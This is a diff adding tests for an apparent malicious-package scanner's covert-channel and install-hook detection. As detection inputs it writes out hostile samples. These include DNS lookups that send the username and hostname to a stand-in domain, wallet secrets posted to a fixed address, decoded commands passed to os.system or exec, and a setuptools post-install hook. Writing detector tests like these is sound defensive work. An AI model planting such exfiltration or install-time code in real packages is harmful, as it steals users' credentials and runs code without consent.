@@ -882,3 +882,216 @@ def test_mixed_scripts_count_only_with_a_letter_that_passes_for_latin() -> None:
     # a Cyrillic "a" in "path", a Cyrillic "c" in "chord": disguise
     assert tricks("p\u0430th = 1\n")
     assert tricks("\u0441hord = 1\n")
+
+
+# --- covert channels and install hooks (guard/analysis/scan/python/covert.py) -----------
+
+
+def _pairs(source: str) -> set[tuple[str, str]]:
+    return {(h.rule, h.kind) for h in analyse(source).hits}
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "socket.gethostbyname(user + '.' + host + '.x.collect.invalid')",
+        "socket.gethostbyname(f'{user}.{host}.collect.invalid')",
+        "socket.getaddrinfo('{}.{}.collect.invalid'.format(user, host), 53)",
+        "socket.gethostbyname('%s.collect.invalid' % user)",
+    ],
+)
+def test_a_dns_lookup_of_a_built_name_under_a_domain_is_a_network_call(call: str) -> None:
+    source = (
+        f"import getpass, socket\nuser = getpass.getuser()\nhost = socket.gethostname()\n{call}\n"
+    )
+    hits = [h for h in analyse(source).hits if h.kind == "network"]
+    assert len(hits) == 1 and "collect.invalid" in hits[0].text, hits
+    assert ("install-time-code", "send-host-data") in _pairs(source)
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "socket.gethostbyname(socket.gethostname())",  # the host's own address
+        "socket.gethostbyname(host)",  # a name the caller gives
+        "socket.gethostbyname('pypi.org')",  # a plain name
+        "socket.gethostbyname(f'{service}.default.svc.cluster.local')",  # cluster DNS
+        "socket.getaddrinfo(f'{rev}.in-addr.arpa', None)",  # an address's name
+        "socket.gethostbyname(f'{host}.lan')",
+    ],
+)
+def test_ordinary_dns_lookups_are_no_network_call(call: str) -> None:
+    source = f"import socket\nhost = 'h'\nservice = 's'\nrev = '1.0.0.127'\n{call}\n"
+    assert not any(h.kind == "network" for h in analyse(source).hits), call
+
+
+def test_a_dns_lookup_of_a_decoded_name_is_a_network_call() -> None:
+    source = "import base64, socket\nsocket.gethostbyname(base64.b64decode('eC5pbnZhbGlk'))\n"
+    assert ("install-time-code", "network") in _pairs(source)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "base64.b64decode('ZWNobyBoaQ==').decode()",
+        "bytes.fromhex('6563686f206869').decode()",
+        "'ih ohce'[::-1]",
+    ],
+)
+def test_a_process_running_a_decoded_command_is_decode_exec(command: str) -> None:
+    source = f"import base64, os\nos.system({command})\n"
+    assert ("obfuscated-code", "decode-exec") in _pairs(source)
+
+
+def test_a_process_whose_output_is_decoded_is_no_decoded_command() -> None:
+    source = (
+        "import subprocess\n"
+        "out = subprocess.check_output(['git', 'describe']).decode('utf-8')\n"
+        "subprocess.run(['git', 'tag', out.strip()])\n"
+    )
+    assert ("obfuscated-code", "decode-exec") not in _pairs(source)
+
+
+_HOOK = """
+import os, subprocess, sys
+from setuptools import setup
+from setuptools.command.install import install
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        {act}
+
+setup(name="demo", version="1.0", cmdclass={{"install": PostInstall}})
+"""
+
+
+@pytest.mark.parametrize(
+    "act",
+    ["subprocess.Popen(['xcalc'])", "os.getlogin()", "open('/etc/demo.conf', 'w').write('x')"],
+)
+def test_an_install_override_that_acts_on_the_machine_blocks(tmp_path: Path, act: str) -> None:
+    result = scan(sdist(tmp_path, {"setup.py": _HOOK.format(act=act)}))
+    assert result.level == "block", result.findings
+    assert any(s.kind == "cmdclass" and s.weight == 4.0 for s in result.signals)
+
+
+@pytest.mark.parametrize(
+    "act",
+    [
+        "subprocess.check_call([os.environ.get('CC', 'cc'), '--version'])",  # build tool
+        "subprocess.check_call(self.compiler_command)",  # a computed command
+        "subprocess.check_call([sys.executable, '-m', 'pip', '--version'])",
+    ],
+)
+def test_an_install_override_that_builds_is_not_a_hook_act(tmp_path: Path, act: str) -> None:
+    result = scan(sdist(tmp_path, {"setup.py": _HOOK.format(act=act)}))
+    assert not any(s.kind == "cmdclass" and s.weight == 4.0 for s in result.signals)
+    assert result.level != "block", result.findings
+
+
+def test_a_program_run_outside_an_install_override_is_not_a_hook_act(tmp_path: Path) -> None:
+    body = (
+        "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install"
+        " import install\n\nclass Tool:\n    def run(self):\n        subprocess.run(['xcalc'])\n\n"
+        "class PostInstall(install):\n    pass\n\n"
+        "setup(name='demo', version='1.0', cmdclass={'install': PostInstall})\n"
+    )
+    result = scan(sdist(tmp_path, {"setup.py": body}))
+    assert not any(s.kind == "cmdclass" and s.weight == 4.0 for s in result.signals)
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "requests.post(url, json={'mnemonic': words})",  # a key names it
+        "requests.post(url, data=private_key)",  # the variable names it
+        "requests.get(url, params={'k': self.privkey})",
+    ],
+)
+def test_a_wallet_secret_sent_to_a_fixed_address_is_steal_send(call: str) -> None:
+    source = (
+        "import requests\nurl = 'https://collect.invalid/x'\n"
+        f"def check(self, words, private_key):\n    {call}\n"
+    )
+    assert ("credential-access", "steal-send") in _pairs(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the address is the caller's (a node URL, a configured service)
+        "import requests\ndef sign(node_url, private_key):\n"
+        "    requests.post(node_url, json={'key': private_key})\n",
+        "import requests\nclass C:\n    def send(self, private_key):\n"
+        "        requests.post(self.base_url + '/sign', json={'key': private_key})\n",
+        # nothing secret in the payload
+        "import requests\ndef price(symbol):\n"
+        "    requests.post('https://api.invalid/price', json={'symbol': symbol})\n",
+        # the secret is only in the URL's path name, not sent
+        "import requests\ndef docs(mnemonic):\n"
+        "    requests.get('https://docs.invalid/mnemonic', timeout=3)\n",
+    ],
+)
+def test_a_wallet_secret_not_sent_to_a_fixed_address_is_no_steal_send(source: str) -> None:
+    assert ("credential-access", "steal-send") not in _pairs(source)
+
+
+def test_exec_of_text_built_from_xored_characters_is_decode_exec() -> None:
+    source = "s = ''\nfor a, b in zip(BLOB, KEY):\n    s += chr(ord(a) ^ ord(b))\nexec(s)\n"
+    assert ("obfuscated-code", "decode-exec") in _pairs(source)
+
+
+def test_exec_of_text_built_from_plain_characters_is_no_decode_exec() -> None:
+    source = "s = ''\nfor c in 'abc':\n    s += chr(ord(c))\nexec(s)\n"
+    assert ("obfuscated-code", "decode-exec") not in _pairs(source)
+
+
+def test_an_imported_module_that_calls_its_own_function_is_read_in_full(tmp_path: Path) -> None:
+    runner = (
+        "import subprocess\n\ndef start():\n"
+        "    return subprocess.Popen(['powershell', '-Command', 'Write-Output x'])\n\n"
+        "_p = start()\n"
+    )
+    files: dict[str, str | bytes] = {
+        "demo/__init__.py": "from .runner import start\n",
+        "demo/runner.py": runner,
+    }
+    result = scan(wheel(tmp_path, files))
+    assert result.level == "block", result.findings
+    assert any(s.kind == "spawn-shell" and s.role == "imported" for s in result.signals)
+
+
+def test_an_imported_module_that_only_defines_the_function_stays_clean(tmp_path: Path) -> None:
+    runner = (
+        "import subprocess\n\ndef start():\n"
+        "    return subprocess.Popen(['powershell', '-Command', 'Write-Output x'])\n"
+    )
+    files: dict[str, str | bytes] = {
+        "demo/__init__.py": "from .runner import start\n",
+        "demo/runner.py": runner,
+    }
+    assert scan(wheel(tmp_path, files)).level != "block"
+
+
+def test_a_script_written_in_the_tree_and_run_is_no_drop_run() -> None:
+    source = (
+        "import subprocess, sys\n"
+        "with open('build/gen_version.py', 'w') as f:\n    f.write('x = 1')\n"
+        "subprocess.check_call([sys.executable, 'build/gen_version.py'])\n"
+    )
+    assert ("dropper", "drop-run") not in _pairs(source)
+
+
+def test_an_imported_module_probing_the_platform_at_import_stays_clean(tmp_path: Path) -> None:
+    # urllib3's shape: a helper called at import opens a local socket to probe IPv6
+    probe = (
+        "import socket\n\ndef _has_ipv6(host):\n"
+        "    sock = socket.socket(socket.AF_INET6)\n    sock.bind((host, 0))\n    return True\n\n"
+        "HAS_IPV6 = _has_ipv6('::1')\n"
+    )
+    files: dict[str, str | bytes] = {
+        "demo/__init__.py": "from .probe import HAS_IPV6\n",
+        "demo/probe.py": probe,
+    }
+    assert scan(wheel(tmp_path, files)).level == "clean"
